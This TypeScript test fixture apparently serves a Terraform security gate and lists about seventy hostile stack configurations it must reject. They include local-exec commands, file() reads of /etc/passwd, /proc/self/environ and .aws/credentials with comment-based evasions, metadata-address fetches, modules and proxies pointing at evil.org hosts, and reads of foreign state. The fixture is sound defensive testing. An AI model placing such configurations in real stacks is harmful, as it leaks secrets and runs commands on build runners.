import type { Attributes } from '@ashlar/graph';
import { store } from './clean-stack.fixture.js';
import type { GateRule } from './gate-finding.js';

/** Something that must not reach Terraform, as it would stand in the JSON of a stack. */
export interface Evil {
  readonly name: string;
  readonly rule: GateRule;
  readonly json: Attributes;
}

const resource = (type: string, body: object) => ({ resource: { [type]: { evil: body } } });
const data = (type: string, body: object = {}) => ({ data: { [type]: { evil: body } } });
const output = (value: unknown) => ({ output: { evil: { value } } });
const marker = (body: object) => resource('terraform_data', body);
const state = (config: object, body: object = {}) =>
  data('terraform_remote_state', { backend: 's3', config: { ...store(), ...config }, ...body });
const provider = (body: object) => ({
  provider: {
    aws: [{ alias: 'evil', region: 'us-east-1', allowed_account_ids: ['111122223333'], ...body }],
  },
});
const required = (name: string, written: unknown) => ({
  terraform: { required_providers: { [name]: written } },
});

const rows: readonly (readonly [GateRule, string, Attributes])[] = [
  ['code-execution', 'an external program', data('external', { program: ['sh', '-c', 'env'] })],
  ['code-execution', 'a request', data('http', { url: 'https://example.org' })],
  ['code-execution', 'a function that is called', data('aws_lambda_invocation', { function_name: 'f' })],
  ['code-execution', 'a function called by a resource', resource('aws_lambda_invocation', {})],
  ['code-execution', 'a task that is started', data('aws_ecs_task_execution', { cluster: 'c' })],
  ['code-execution', 'a file of the runner', data('local_sensitive_file', { filename: '/etc/passwd' })],
  ['code-execution', 'a request inside of a check', { check: { evil: { ...data('http') } } }],
  ['code-execution', 'a null_resource', resource('null_resource', {})],
  ['code-execution', 'local-exec', marker({ provisioner: { 'local-exec': { command: 'env' } } })],
  ['code-execution', 'remote-exec', marker({ provisioner: [{ 'remote-exec': { inline: ['env'] } }] })],
  ['code-execution', 'a file that is sent', marker({ provisioner: [{ file: { source: '/etc/passwd' } }] })],
  ['code-execution', 'a provisioner without a kind', marker({ provisioner: 'local-exec' })],
  ['code-execution', 'a connection', marker({ connection: { host: 'example.org' } })],
  [
    'code-execution',
    'a provisioner of something that is removed',
    { removed: [{ from: 'terraform_data.x', provisioner: { 'local-exec': { when: 'destroy' } } }] },
  ],
  ['reads-values', 'a secret', data('aws_secretsmanager_secret_version', { secret_id: 'x' })],
  ['reads-values', 'any object, states among them', data('aws_s3_object', { bucket: 'states' })],
  ['reads-values', 'an API with its headers', data('aws_api_gateway_export', { stage_name: 'x' })],
  ['reads-values', 'the client of an API', data('aws_api_gateway_sdk', { stage_name: 'x' })],
  ['reads-values', 'a parameter', data('aws_ssm_parameter', { name: '/shop/password' })],
  [
    'reads-values',
    'an ephemeral secret',
    { ephemeral: { aws_secretsmanager_secret_version: { evil: { secret_id: 'x' } } } },
  ],
  ['reads-values', 'an import of a secret', { import: [{ to: 'aws_ssm_parameter.evil["a"]', id: '/x' }] }],
  ['foreign-provider', 'a provider of somebody', required('evil', { source: 'evil/evil' })],
  ['foreign-provider', 'a registry of somebody', required('evil', { source: 'evil.example/hashicorp/aws' })],
  ['foreign-provider', "somebody's aws", required('evil', { source: 'hashicorpp/aws' })],
  ['foreign-provider', 'a source in other letters', required('evil', { source: 'HashiCorp/AWS' })],
  ['foreign-provider', 'a provider by its version', required('random', '3.0.0')],
  ['foreign-provider', 'a provider that a type implies', resource('tls_private_key', {})],
  ['foreign-provider', 'a provider that a resource names', marker({ provider: 'evil.x' })],
  ['foreign-provider', 'a provider that is set up', { provider: { vault: { address: 'https://evil' } } }],
  ['foreign-module', 'a module of the registry', { module: { evil: { source: 'evil/vpc/aws' } } }],
  ['foreign-module', 'a module of git', { module: { evil: { source: 'git::https://u:p@evil.org/x.git' } } }],
  ['foreign-module', 'a module by its address', { module: { evil: { source: 'https://evil.org/x.zip' } } }],
  ['foreign-module', 'a module beside the stack', { module: { evil: { source: '../other' } } }],
  ['foreign-module', 'a module inside of the stack', { module: { evil: { source: './assets/m' } } }],
  ['runner-file', 'file()', output('${file("/proc/self/environ")}')],
  ['runner-file', 'a way out of the assets', output('${file("assets/../../../.aws/credentials")}')],
  ['runner-file', 'a file that an expression names', output('${filebase64(local.x)}')],
  ['runner-file', 'a comment before the parenthesis', output('${core::file/* ( */ ("/etc/passwd")}')],
  ['runner-file', 'a line between', output('${(file # here\n ("/etc/passwd"))}')],
  ['runner-file', 'a directive', output('%{ if fileexists("/root/.aws/credentials") }y%{ endif }')],
  ['runner-file', 'a template', output('${templatefile("assets/t.tpl", {})}')],
  ['runner-file', 'text that becomes a template', output('${templatestring(local.t, {})}')],
  ['runner-file', 'a list of files', output('${fileset("assets", "../../**")}')],
  ['runner-file', 'the key of a map, called like a comment', output({ '//': { '${file("/x")}': 1 } })],
  ['runner-file', 'a local value', { locals: { evil: ['${pathexpand("~/.ssh")}'] } }],
  ['runner-file', 'an object from the disk', resource('aws_s3_object', { source: '/proc/self/environ' })],
  [
    'runner-file',
    'a cluster set up from the disk',
    resource('aws_emr_cluster', { configurations: '/x.json' }),
  ],
  [
    'runner-file',
    'a cluster set up from an address',
    resource('aws_emr_cluster', { configurations: 'http://169.254.169.254/x' }),
  ],
  ['runner-file', 'code from elsewhere', resource('aws_lambda_function', { filename: '${var.zip}' })],
  ['foreign-state', 'the state of another app', state({ key: 'bank/production/vault.tfstate' })],
  ['foreign-state', 'the state of another environment', state({ key: 'shop/staging/data.tfstate' })],
  ['foreign-state', 'a way to another state', state({ key: 'shop/production/../../bank/x.tfstate' })],
  ['foreign-state', 'a state in another bucket', state({ bucket: 'b', key: 'shop/production/x.tfstate' })],
  ['foreign-state', 'a state by expression', state({ key: 'shop/production/${var.x}.tfstate' })],
  [
    'foreign-state',
    'a state through another endpoint',
    state({ key: 'shop/production/x.tfstate', endpoint: 'https://evil' }),
  ],
  ['foreign-state', 'another workspace', state({ key: 'shop/production/x.tfstate' }, { workspace: 'w' })],
  ['foreign-state', 'a state over HTTP', data('terraform_remote_state', { backend: 'http', config: {} })],
  ['backend', 'a second backend', { terraform: { backend: { local: { path: 'x' } } } }],
  ['unread-section', 'a cloud', { terraform: { cloud: { organization: 'evil' } } }],
  ['unread-section', 'provider_meta', { terraform: { provider_meta: { aws: {} } } }],
  ['unread-section', 'a section of a later Terraform', { action: { aws_lambda_invoke: { evil: {} } } }],
  ['provider-setting', 'endpoints', provider({ endpoints: [{ sts: 'https://evil' }] })],
  ['provider-setting', 'a proxy', provider({ https_proxy: 'https://evil' })],
  ['provider-setting', 'certificates', provider({ custom_ca_bundle: 'assets/ca.pem' })],
  ['provider-setting', 'a profile', provider({ shared_config_files: ['assets/config'], profile: 'evil' })],
  ['provider-setting', 'a role', provider({ assume_role: [{ role_arn: 'arn:aws:iam::9:role/evil' }] })],
  ['provider-setting', 'checks that are skipped', provider({ skip_requesting_account_id: true })],
  ['provider-setting', 'an expression', provider({ region: '${data.aws_region.here.name}' })],
  ['foreign-account', 'another account', provider({ allowed_account_ids: ['999999999999'] })],
  ['foreign-account', 'any account', provider({ allowed_account_ids: [] })],
];

/** Each under a name of its own, so that two of them in one stack are two. */
const named = (json: Attributes, at: number) =>
  JSON.parse(
    JSON.stringify(json)
      .replaceAll('"evil":', `"evil${at}":`)
      .replaceAll('"alias":"evil"', `"alias":"evil${at}"`),
  ) as Attributes;

export const evils: readonly Evil[] = rows.map(([rule, name, json], at) => ({
  ...{ rule, name },
  json: named(json, at),
}));
